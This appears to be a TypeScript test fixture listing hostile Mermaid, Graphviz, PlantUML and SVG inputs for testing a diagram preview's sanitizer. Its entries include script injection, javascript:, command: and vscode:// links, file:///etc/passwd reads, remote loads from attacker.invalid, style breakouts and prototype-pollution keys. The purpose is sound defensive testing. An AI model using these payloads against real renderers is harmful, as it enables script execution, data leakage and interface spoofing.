/** Diagrams that try to run script, to load something, or to restyle the panel. Those that can run script run `run`. */
const run = 'globalThis.attacked=1;try{top.attacked=1}catch{}'

/** Markup for places where quotes, semicolons, braces or spaces have a special meaning. */
const image = '<img/src=x/onerror=attacked=1>'

export const hostile: Readonly<Record<string, string>> = {
  // Content of labels.
  'script in a label': `flowchart LR\n  a["x<script>${run}</script>"] --> b`,
  'error handler in a label': `flowchart LR\n  a["<img src=x onerror='${run}'>"] --> b`,
  'svg load handler in a label': `flowchart LR\n  a["<svg onload='${run}'></svg>"] --> b`,
  'frame in a label': `flowchart LR\n  a["<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>"] --> b`,
  'markup in entities': `flowchart LR\n  a["&lt;img src=x onerror='${run}'&gt;"] --> b["#lt;img src=x onerror='${run}'#gt;"]`,
  'markdown that loads and leads': `flowchart LR\n  a["\`![x](https://attacker.invalid/md.png) [l](javascript:${run}) **b**\`"] --> b`,
  'letters that turn, end or pile up': `flowchart LR\n  a["\u202Eevil\u202C \u0000 ${`e${'\u0301'.repeat(2000)}`}"] --> b`,
  'label of a state': `stateDiagram-v2\n  state "${image}" as s\n  [*] --> s : ${image}`,
  'label of an entity': `erDiagram\n  a["${image}"] {\n    string x "${image}"\n  }\n  a ||--o{ b : "${image}"`,
  'label of a class': `classDiagram\n  class A["${image}"]\n  A --> B : ${image}`,
  'label of a block': `block-beta\n  columns 1\n  a["${image}"]`,
  'label of a task': `gantt\n  title ${image}\n  dateFormat YYYY-MM-DD\n  section ${image}\n  ${image} :a1, 2026-01-01, 3d`,
  'label of a C4 element': `C4Context\n  title ${image}\n  Person(a, "${image}", "${image}")\n  System(b, "B")\n  Rel(a, b, "${image}")`,
  'label of an actor': `sequenceDiagram\n  participant A as ${image}\n  A->>A: ${image}\n  Note over A: ${image}`,
  'label of a topic': `mindmap\n  root(("${image}"))\n    a["${image}"]`,
  'label of a service': `architecture-beta\n  group g(cloud)["${image}"]\n  service a(server)["${image}"] in g\n  service b "${image}" in g`,
  'label of a card': `kanban\n  todo[${image}]\n    t1["${image}"]`,
  'label of a slice': `pie title ${image}\n  "${image}" : 3\n  "b" : 1`,
  'formula of an actor': `sequenceDiagram\n  participant A as ${image}$$x$$\n  A->>A: $$\\href{javascript:top.attacked=1}{x}$$`,
  'formula that loads': `flowchart LR\n  a["$$\\includegraphics{https://attacker.invalid/tex.png}$$"] --> b`,
  // Images.
  'remote image in a label': `flowchart LR\n  a["<img src='https://attacker.invalid/leak.png'>"] --> b`,
  'remote image node': `flowchart LR\n  a@{ img: "https://attacker.invalid/image.png", h: 60 }\n  a --> b`,
  'svg image node': `flowchart LR\n  a@{ img: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>", h: 60 }\n  a --> b`,
  'sprite and link of a C4 element': `C4Context\n  Person(a, "A", $sprite="https://attacker.invalid/sprite.png", $link="javascript:${run}")\n  System(b, "B", $link="vscode://evil.ext/x")\n  Rel(a, b, "x", $link="javascript:${run}")`,
  // Targets of links.
  'script link': `flowchart LR\n  a --> b\n  click a href "javascript:${run}"`,
  'script link with a tab': `flowchart LR\n  a --> b\n  click a href "java\tscript:${run}"`,
  'command link': `flowchart LR\n  a --> b\n  click a href "command:workbench.action.terminal.new"`,
  'link into the editor': `flowchart LR\n  a --> b\n  click a href "vscode://evil.ext/x"`,
  'link to a file of the machine': `flowchart LR\n  a --> b\n  click a href "file:///etc/passwd"`,
  'link that is a page': `flowchart LR\n  a --> b\n  click a href "data:text/html,<script>${run}</script>"`,
  'link of a card': `---\nconfig:\n  kanban:\n    ticketBaseUrl: "javascript:${run}//#TICKET#"\n---\nkanban\n  todo[Todo]\n    t1[One]@{ ticket: 7 }`,
  'call on click': `flowchart LR\n  a --> b\n  click a call attack()`,
  // Settings in the diagram itself.
  'loose by directive': `%%{init: {"securityLevel": "loose", "secure": []}}%%\nflowchart LR\n  a["<img src=x onerror='${run}'>"] --> b`,
  'loose by front matter': `---\nconfig:\n  securityLevel: loose\n  secure: []\n---\nflowchart LR\n  a["<img src=x onerror='${run}'>"] --> b`,
  'more tags by directive': `%%{init: {"dompurifyConfig": {"ADD_TAGS": ["iframe"], "ADD_ATTR": ["onerror"]}}}%%\nflowchart LR\n  a["<img src=x onerror='${run}'>"] --> b`,
  'markup by directive': `%%{init: {"secure": [], "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["${image}"] --> b`,
  // Styles.
  'theme styles leave': `%%{init: {"themeCSS": "} .top, button, .card { display: none !important; } a {"}}%%\nflowchart LR\n  a --> b`,
  'theme styles load': `%%{init: {"themeCSS": "* { background: url(https://attacker.invalid/css.png) }"}}%%\nflowchart LR\n  a --> b`,
  'theme styles select outside': `%%{init: {"themeCSS": ":not(&) { display: none !important } :host { display: none !important }"}}%%\nflowchart LR\n  a --> b`,
  'theme styles import': `%%{init: {"themeCSS": "@import url(https://attacker.invalid/import.css);"}}%%\nflowchart LR\n  a --> b`,
  'theme styles reach siblings': `%%{init: {"themeCSS": "& ~ * { display: none !important } & + * { display: none !important }"}}%%\nflowchart LR\n  a --> b`,
  'theme colour leaves': `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;} .top { display: none !important } x {"}}}%%\nflowchart LR\n  a --> b`,
  'node styles load': `flowchart LR\n  a --> b\n  style a background:url(https://attacker.invalid/node.png)\n  linkStyle 0 stroke:url(https://attacker.invalid/edge.png)`,
  'font escapes': `%%{init: {"fontFamily": "x; a{b} :not(&){display:none !important} c{d}"}}%%\nflowchart LR\n  a --> b`,
  'class styles leave': `flowchart LR\n  a:::bad --> b\n  classDef bad fill:red;} .top{display:none !important} x{`,
  'class styles load': `flowchart LR\n  a:::bad --> b\n  classDef bad fill:url(https://attacker.invalid/class.png)`,
  'class styles cover the panel': `flowchart LR\n  a:::bad --> b\n  classDef bad position:fixed,inset:0,z-index:9999`,
  'state class holds markup': `stateDiagram-v2\n  [*] --> a\n  classDef bad fill:red"><img/src/onerror=${run}>\n  class a bad`,
  'links of an actor': `sequenceDiagram\n  participant A\n  links A: {"x": "javascript:top.attacked=1", "y": "https://example.com/"}\n  A->>A: hi`,
  'formula with a link': `flowchart LR\n  a["$$\\\\href{javascript:${run}}{x}$$"] --> b`,
  'script link of a task': `gantt\n  dateFormat YYYY-MM-DD\n  section s\n  task :a1, 2026-01-01, 3d\n  click a1 href "javascript:${run}"`,
  'markup that closes its place': `flowchart LR\n  a["</div></foreignObject></svg><img src=x onerror='${run}'>"] --> b`,
  'description with script': `flowchart LR\n  accTitle: </title><script>${run}</script>\n  accDescr: </desc><script>${run}</script>\n  a --> b`,
  'title with script': `---\ntitle: "</title></text><script>${run}</script>"\n---\nflowchart LR\n  a --> b`,
  // Names.
  'prototype keys': `%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart LR\n  __proto__ --> constructor`,
  'prototype keys in front matter': `---\nconfig:\n  __proto__:\n    polluted: 1\n  constructor:\n    prototype:\n      polluted: 1\n---\nflowchart LR\n  a --> b`,
  'prototype ids of services':
    'architecture-beta\n  group __proto__(cloud)[x]\n  service constructor(server)[x] in __proto__\n  service polluted(disk)[x] in __proto__\n  constructor:R --> L:polluted',
  'prototype ids of nodes': 'flowchart LR\n  __proto__ --> toString\n  hasOwnProperty --> __proto__',
  'ids of our page': `flowchart LR\n  panel --> body\n  body --> acquireVsCodeApi`,
}

export const hostileGraphviz: Readonly<Record<string, string>> = {
  'script link': `digraph { a [URL="javascript:${run}"] b [href="java\\tscript:${run}"] a -> b [edgeURL="javascript:${run}"] }`,
  'command link': `digraph { a [URL="command:workbench.action.terminal.new"] b [URL="vscode://evil.ext/x"] c [URL="file:///etc/passwd"] }`,
  'link of a label and of the graph': `digraph { URL="javascript:${run}" a -> b [label=x labelURL="javascript:${run}" headURL="data:text/html,<script>${run}</script>"] }`,
  'link in markup': `digraph { a [label=<<table href="javascript:${run}" title="x"><tr><td href="javascript:${run}">x</td></tr></table>>] }`,
  'remote image': `digraph { a [image="https://attacker.invalid/a.png"] b [shape=none label=<<table><tr><td><img src="https://attacker.invalid/b.png"/></td></tr></table>>] }`,
  'image of a file': `digraph { a [image="/etc/passwd"] b [shapefile="file:///etc/passwd"] imagepath="/etc" }`,
  'script in a label': `digraph { a [label="<script>${run}</script>"] b [label=<&lt;img src=x onerror='${run}'&gt;>] }`,
  'markup that a label does not know': `digraph { a [label=<<script>${run}</script>>] }`,
  'markup in names': `digraph "<script>${run}</script>" { ""><img src=x onerror='${run}'>" -> b [tooltip="" onload="${run}"] }`,
  'attributes that leave their place': `digraph { a [id="x" onload="${run}" class="y" onclick="${run}"] }`,
  'style sheet': `digraph { stylesheet="https://attacker.invalid/style.css" a [class="x" style="filled" fillcolor="url(https://attacker.invalid/fill.png)"] }`,
  'font that is a style': `digraph { a [fontname="x; } .top { display: none !important } a { b: url(https://attacker.invalid/font.png)"] }`,
  'colour that is markup': `digraph { a [color="red"/><script>${run}</script><g fill="red"] }`,
  'ids of our page': 'digraph { panel [id=panel] body [id=body] acquireVsCodeApi [id=acquireVsCodeApi] }',
  'names of prototypes': 'digraph { __proto__ -> constructor -> toString; a [__proto__=polluted] }',
}

export const hostilePlantuml: Readonly<Record<string, string>> = {
  'script link': `@startuml\nA -> B : [[javascript:${run} click]]\nnote left: [[java\tscript:${run} here]]\n@enduml`,
  'script link of a class': `@startuml\nclass A [[javascript:${run}]]\nurl of A is [[javascript:${run}]]\n@enduml`,
  'command link': `@startuml\nA -> B : [[command:workbench.action.terminal.new go]] [[vscode://evil.ext/x go]]\n@enduml`,
  'remote image': `@startuml\nA -> B : <img:https://attacker.invalid/a.png> <img src="https://attacker.invalid/b.png">\n@enduml`,
  'image of a file': `@startuml\nA -> B : <img:/etc/passwd> <img:file:///etc/passwd>\n@enduml`,
  'svg image': `@startuml\nA -> B : <img:data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=>\n@enduml`,
  'sprite with script': `@startuml\nsprite s <svg viewBox="0 0 9 9" onload="${run}"><script>${run}</script><image href="https://attacker.invalid/s.png"/><path d="M0 0h9v9z" onclick="${run}"/></svg>\nA -> B : <$s>\n@enduml`,
  'sprite from afar': '@startuml\nsprite s https://attacker.invalid/sprite.svg\nA -> B : <$s>\n@enduml',
  'include from afar':
    '@startuml\n!include https://attacker.invalid/x.puml\n!includeurl https://attacker.invalid/y.puml\nA -> B\n@enduml',
  'include of a file': '@startuml\n!include /etc/passwd\nA -> B\n@enduml',
  'import of an archive': '@startuml\n!import https://attacker.invalid/x.zip\nA -> B\n@enduml',
  'library that is fetched': '@startuml\n!include <C4/C4_Context>\nPerson(a, "A")\n@enduml',
  'theme from afar': '@startuml\n!theme evil from https://attacker.invalid/themes\nA -> B\n@enduml',
  'data from afar':
    '@startuml\n!$x = %load_json("https://attacker.invalid/x.json")\n!$y = %getenv("PATH")\nA -> B : $x $y %filename() %dirpath()\n@enduml',
  'markup in a label': `@startuml\nparticipant "<script>${run}</script>" as A\nA -> B : <svg onload="${run}"/> <iframe srcdoc="x">\n@enduml`,
  'markup in a title': `@startuml\ntitle </title><script>${run}</script>\nheader <b onclick="${run}">x</b>\nA -> B\n@enduml`,
  'style that leaves':
    '@startuml\n<style>\nroot { FontName "x; } .top { display: none !important } a {" }\n</style>\nskinparam svgLinkTarget _top\nskinparam defaultFontName url(https://attacker.invalid/f.woff)\nA -> B\n@enduml',
  'colour that is markup': `@startuml\nclass A\nnote left: <color:"/><script>${run}</script>>x</color>\nclass C #red";onload="${run}\n@enduml`,
  'dark mode that loads':
    '@startuml\nskinparam backgroundImage https://attacker.invalid/back.png\n!pragma svginteractive true\nA -> B\n@enduml',
  'interactive script': '@startuml\n!pragma svginteractive true\nclass A\nclass B\nA --> B\n@enduml',
  'endless loop': '@startuml\n!while 1 == 1\n!$a = 2\n!endwhile\nA -> B\n@enduml',
  'endless recursion': '@startuml\n!function $f($x)\n!return $f($x + 1)\n!endfunction\nA -> B : $f(1)\n@enduml',
  'names of prototypes':
    '@startuml\nclass __proto__\nclass constructor\n__proto__ --> constructor\n!$__proto__ = {"polluted": 1}\n@enduml',
}

/** Notations that no engine draws. None of their content may take effect. */
export const notDrawn: Readonly<Record<string, string>> = {
  d2: `a: { link: "javascript:${run}"; icon: https://attacker.invalid/icon.svg }\nb: |md <script>${run}</script> |`,
  'vega-lite': `{"data": {"url": "https://attacker.invalid/data.json"}, "transform": [{"calculate": "constructor.constructor('${run}')()", "as": "x"}], "mark": "bar"}`,
}

/** SVG that a careless engine might return, to test the sanitizer alone. */
export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="${run}">
  <style>@import url(https://attacker.invalid/import.css); :host { display: none !important } .a { fill: u\\72l(https://attacker.invalid/fill.png); stroke: red }</style>
  <script>${run}</script>
  <a href="javascript:${run}"><text>one</text></a>
  <a xlink:href=" java&#9;script:${run}"><text>two</text></a>
  <a href="https://example.com/"><text>three</text></a>
  <a href="vscode://evil.ext/x"><text>four</text></a>
  <image href="https://attacker.invalid/image.png"/>
  <image href="data:image/svg+xml,&lt;svg onload='${run}'/&gt;"/>
  <use href="https://attacker.invalid/use.svg#a"/>
  <rect class="a" style="fill: url(https://attacker.invalid/style.png); stroke-width: 2" filter="url(https://attacker.invalid/f.svg#f)" clip-path="url(#ok)"/>
  <rect style="background: image-set('https://attacker.invalid/set.png' 1x)"/>
  <foreignObject><div style="color: red"><iframe src="https://attacker.invalid/"></iframe><form action="https://attacker.invalid/"><input></form><img src="https://attacker.invalid/img.png"><b onclick="${run}">bold</b></div></foreignObject>
  <animate href="#x" attributeName="href" to="javascript:${run}"/>
</svg>`
